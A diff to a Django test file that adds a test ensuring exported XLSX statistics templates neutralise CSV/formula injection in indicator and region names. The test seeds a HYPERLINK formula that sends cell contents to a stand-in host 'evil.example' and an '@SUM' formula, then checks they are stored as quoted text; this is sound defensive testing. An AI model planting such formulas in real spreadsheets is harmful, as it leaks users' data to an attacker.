@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 from django.contrib.auth.models import Group
 from django.core.management import call_command
+from django.utils import translation
 from openpyxl import load_workbook
 
 from agencies.roles import PROJECT_OFFICE_GROUP
@@ -226,3 +227,15 @@ def test_the_templates_query_count_does_not_grow_with_its_districts(
             RegionFactory(kato=f"71{n}100000", parent=astana, kind=RegionKind.CITY_DISTRICT)
 
     assert_queries_do_not_grow(download, more_districts, budget=8)
+
+
+def test_a_name_that_reads_as_a_formula_is_written_as_text(figures, astana) -> None:
+    """The template's names go through the project's formula rule (projectoffice.cell_safety),
+    as every other XLSX does: openpyxl would store `=...` as a live formula."""
+    Indicator.objects.filter(code="crime.theft").update(name_en='=HYPERLINK("http://evil.example/?x="&A1,"open")')
+    Region.objects.filter(pk=astana.pk).update(name_en="@SUM(1+1)")
+    with translation.override("en"):
+        data = statistics_template_xlsx(statistics_template_read(region=astana, period=Q3))
+    row = by_key(workbook(data).worksheets[0])[("710000000", "crime.theft")]
+    assert row["indicator_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    assert row["region_name"] == "'@SUM(1+1)"
